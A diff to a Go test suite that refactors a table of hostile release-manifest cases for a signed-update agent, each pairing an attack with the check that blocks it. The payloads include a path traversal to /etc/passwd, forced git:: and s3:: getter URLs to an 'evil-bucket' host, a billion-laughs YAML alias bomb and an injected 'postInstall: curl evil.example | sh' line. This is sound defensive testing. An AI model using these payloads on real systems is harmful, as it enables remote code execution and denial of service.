@@ -492,6 +492,10 @@ spec:
 		attack  string // the attack, one line (docs/RELIABILITY.md)
 		defense string // what stops it, one line
 		plant   func(t *testing.T)
+		// Shorthands for plant: a validly signed release changed by claim,
+		// or the text of a signed release edited by text.
+		claim func(r *manifest.Release)
+		text  func(t *testing.T, y string) string
 	}
 	tgzOf := func(t *testing.T, ents ...tarEnt) []byte { return gzipped(t, tarball(t, ents...)) }
 	archiveCase := func(name, want, attack, defense string, build func(t *testing.T) []byte) hostileCase {
@@ -620,128 +624,96 @@ spec:
 		{name: "fast-forward", want: "seq jump",
 			attack:  fmt.Sprintf("validly signed release %d seqs past the applied one, so no honest release is newer again", trust.DefaultMaxSeqJump+1),
 			defense: fmt.Sprintf("seq jump check: at most policy limits.maxSeqJump (default %d) past the last applied seq", trust.DefaultMaxSeqJump),
-			plant: func(t *testing.T) {
-				s.plantSigned(s.release(func(r *manifest.Release) { r.Seq = s.baseSeq + trust.DefaultMaxSeqJump + 1 }))
-			}},
+			claim:   func(r *manifest.Release) { r.Seq = s.baseSeq + trust.DefaultMaxSeqJump + 1 }},
 		{name: "expired", want: "expiry",
 			attack:  "validly signed release whose expiresAt has passed (a stale release replayed)",
 			defense: "expiry check: expiresAt must be after the host clock",
-			plant: func(t *testing.T) {
-				s.plantSigned(s.release(func(r *manifest.Release) {
-					r.IssuedAt = time.Now().UTC().Add(-48 * time.Hour).Truncate(time.Second)
-					r.ExpiresAt = r.IssuedAt.Add(time.Hour)
-				}))
+			claim: func(r *manifest.Release) {
+				r.IssuedAt = time.Now().UTC().Add(-48 * time.Hour).Truncate(time.Second)
+				r.ExpiresAt = r.IssuedAt.Add(time.Hour)
 			}},
 		{name: "issued-in-the-future", want: "issue time",
 			attack:  "validly signed release issued a day in the future (pre-signed for later)",
 			defense: "issue time check: issuedAt at most 5 minutes of clock skew past the host clock",
-			plant: func(t *testing.T) {
-				s.plantSigned(s.release(func(r *manifest.Release) {
-					r.IssuedAt = time.Now().UTC().Add(24 * time.Hour).Truncate(time.Second)
-					r.ExpiresAt = r.IssuedAt.Add(time.Hour)
-				}))
+			claim: func(r *manifest.Release) {
+				r.IssuedAt = time.Now().UTC().Add(24 * time.Hour).Truncate(time.Second)
+				r.ExpiresAt = r.IssuedAt.Add(time.Hour)
 			}},
 		{name: "other-environment", want: "environment",
 			attack:  "validly signed release of another environment planted in this one",
 			defense: "environment check: the signed env must be this host's and allowed by the policy",
-			plant: func(t *testing.T) {
-				s.plantSigned(s.release(func(r *manifest.Release) { r.Env = "other" }))
-			}},
+			claim:   func(r *manifest.Release) { r.Env = "other" }},
 
 		// Validly signed, but not a release this agent may read.
 		{name: "bundle-key-outside-bundles", want: "bundle.key",
 			attack:  "signed release whose bundle.key names a store object outside bundles/",
 			defense: "release validation: bundle.key must match bundles/<name>.tar.gz",
-			plant: func(t *testing.T) {
-				s.plantSigned(s.release(func(r *manifest.Release) { r.Bundle.Key = "releases/demo/latest" }))
-			}},
+			claim:   func(r *manifest.Release) { r.Bundle.Key = "releases/demo/latest" }},
 		{name: "bundle-key-dotdot", want: "bundle.key",
 			attack:  "signed release whose bundle.key climbs out with bundles/../../",
 			defense: "release validation: bundle.key must match bundles/<name>.tar.gz (no / or .. after bundles/)",
-			plant: func(t *testing.T) {
-				s.plantSigned(s.release(func(r *manifest.Release) { r.Bundle.Key = "bundles/../../etc/passwd.tar.gz" }))
-			}},
+			claim:   func(r *manifest.Release) { r.Bundle.Key = "bundles/../../etc/passwd.tar.gz" }},
 		{name: "forced-getter", want: `bundle.key: expected bundles/<name>.tar.gz, found "git::`,
 			attack:  "signed release whose bundle.key forces a go-getter git getter (git::https://...)",
 			defense: "release validation: bundle.key must match bundles/<name>.tar.gz, so no :: or scheme reaches go-getter (whose only getter also refuses forced ones)",
-			plant: func(t *testing.T) {
-				s.plantSigned(s.release(func(r *manifest.Release) { r.Bundle.Key = "git::https://example.com/x.git" }))
-			}},
+			claim:   func(r *manifest.Release) { r.Bundle.Key = "git::https://example.com/x.git" }},
 		{name: "forced-getter-s3", want: `bundle.key: expected bundles/<name>.tar.gz, found "s3::`,
 			attack:  "signed release whose bundle.key forces an s3 getter to another bucket (s3::https://.../bundles/x.tar.gz)",
 			defense: "release validation: bundle.key must start with bundles/ and hold only [A-Za-z0-9._-] after it",
-			plant: func(t *testing.T) {
-				s.plantSigned(s.release(func(r *manifest.Release) {
-					r.Bundle.Key = "s3::https://evil-bucket.s3.amazonaws.com/bundles/x.tar.gz"
-				}))
+			claim: func(r *manifest.Release) {
+				r.Bundle.Key = "s3::https://evil-bucket.s3.amazonaws.com/bundles/x.tar.gz"
 			}},
 		{name: "bundle-over-size-limit", want: "bundle size",
 			attack:  "signed release pinning a 2 GiB bundle",
 			defense: "policy limits.bundleBytes (default 1 GiB) checked against the signed size before downloading",
-			plant: func(t *testing.T) {
-				s.plantSigned(s.release(func(r *manifest.Release) { r.Bundle.Size = 2 << 30 }))
-			}},
+			claim:   func(r *manifest.Release) { r.Bundle.Size = 2 << 30 }},
 		{name: "yaml-duplicate-key", want: "release manifest",
 			attack:  "signed manifest with a key given twice, for parsers that disagree on which wins",
 			defense: "strict YAML: duplicate keys refused",
-			plant: func(t *testing.T) {
-				s.plantText(s.release(nil), func(y string) string {
-					return strings.Replace(y, "\nenv: demo\n", "\nenv: demo\nenv: demo\n", 1)
-				})
+			text: func(t *testing.T, y string) string {
+				return strings.Replace(y, "\nenv: demo\n", "\nenv: demo\nenv: demo\n", 1)
 			}},
 		{name: "yaml-unknown-field", want: "release manifest",
 			attack:  "signed manifest with an extra field (postInstall: curl evil | sh)",
 			defense: "strict YAML: typed decoding refuses unknown fields",
-			plant: func(t *testing.T) {
-				s.plantText(s.release(nil), func(y string) string { return y + "postInstall: curl evil.example | sh\n" })
-			}},
+			text:    func(t *testing.T, y string) string { return y + "postInstall: curl evil.example | sh\n" }},
 		{name: "yaml-anchor-alias", want: "release manifest",
 			attack:  "signed manifest reusing a value through an anchor and an alias",
 			defense: "strict YAML: anchors and aliases refused on the node tree, before decoding",
-			plant: func(t *testing.T) {
-				s.plantText(s.release(nil), func(y string) string {
-					y = strings.Replace(y, "\nenv: demo\n", "\nenv: &e demo\n", 1)
-					return strings.Replace(y, "\n  branch: main\n", "\n  branch: *e\n", 1)
-				})
+			text: func(t *testing.T, y string) string {
+				y = strings.Replace(y, "\nenv: demo\n", "\nenv: &e demo\n", 1)
+				return strings.Replace(y, "\n  branch: main\n", "\n  branch: *e\n", 1)
 			}},
 		{name: "yaml-alias-bomb", want: "anchors and aliases are not allowed",
 			attack:  "signed manifest with a billion-laughs alias bomb: 9 nested levels of 9 aliases, 9^9 nodes from under 1 KB",
 			defense: "strict YAML: the first pass keeps aliases as nodes and refuses any anchor before anything expands them",
-			plant: func(t *testing.T) {
-				s.plantText(s.release(nil), func(y string) string {
-					var b strings.Builder
-					b.WriteString("\nenv: demo\nlol:\n  l0: &l0 [" + strings.TrimSuffix(strings.Repeat(`"lol",`, 9), ",") + "]\n")
-					for i := 1; i < 9; i++ {
-						fmt.Fprintf(&b, "  l%d: &l%d [%s]\n", i, i, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*l%d,", i-1), 9), ","))
-					}
-					out := strings.Replace(y, "\nenv: demo\n", b.String(), 1)
-					if out == y || len(out) >= trust.DefaultManifestBytes/64 {
-						t.Fatalf("alias bomb not planted or too large (%d bytes)", len(out))
-					}
-					return out
-				})
+			text: func(t *testing.T, y string) string {
+				var b strings.Builder
+				b.WriteString("\nenv: demo\nlol:\n  l0: &l0 [" + strings.TrimSuffix(strings.Repeat(`"lol",`, 9), ",") + "]\n")
+				for i := 1; i < 9; i++ {
+					fmt.Fprintf(&b, "  l%d: &l%d [%s]\n", i, i, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*l%d,", i-1), 9), ","))
+				}
+				out := strings.Replace(y, "\nenv: demo\n", b.String(), 1)
+				if out == y || len(out) >= trust.DefaultManifestBytes/64 {
+					t.Fatalf("alias bomb not planted or too large (%d bytes)", len(out))
+				}
+				return out
 			}},
 		{name: "yaml-two-documents", want: "release manifest",
 			attack:  "signed manifest followed by a second YAML document",
 			defense: "strict YAML: exactly one document allowed",
-			plant: func(t *testing.T) {
-				s.plantText(s.release(nil), func(y string) string { return y + "---\n" + y })
-			}},
+			text:    func(t *testing.T, y string) string { return y + "---\n" + y }},
 		{name: "yaml-wrong-type", want: "release manifest",
 			attack:  "signed manifest with a string where bundle.files is an integer",
 			defense: "strict YAML: typed decoding refuses the type mismatch",
-			plant: func(t *testing.T) {
-				s.plantText(s.release(nil), func(y string) string {
-					return strings.Replace(y, "\n  files: ", "\n  files: many # was ", 1)
-				})
+			text: func(t *testing.T, y string) string {
+				return strings.Replace(y, "\n  files: ", "\n  files: many # was ", 1)
 			}},
 		{name: "yaml-oversized", want: "manifest",
 			attack:  "a 2 MiB release manifest (a huge comment)",
 			defense: "policy limits.manifestBytes (default 1 MiB): the store read stops past it, before signature checks or parsing",
-			plant: func(t *testing.T) {
-				s.plantText(s.release(nil), func(y string) string {
-					return y + "# " + strings.Repeat("x", 2<<20) + "\n"
-				})
+			text: func(t *testing.T, y string) string {
+				return y + "# " + strings.Repeat("x", 2<<20) + "\n"
 			}},
 
 		// The bundle itself.
@@ -933,7 +905,14 @@ spec:
 			s.t = t
 			defer s.restore()
 			before := h.snapshot(t)
-			tc.plant(t)
+			switch {
+			case tc.claim != nil:
+				s.plantSigned(s.release(tc.claim))
+			case tc.text != nil:
+				s.plantText(s.release(nil), func(y string) string { return tc.text(t, y) })
+			default:
+				tc.plant(t)
+			}
 			config := tc.config
 			if config == "" {
 				config = "agent.yaml"
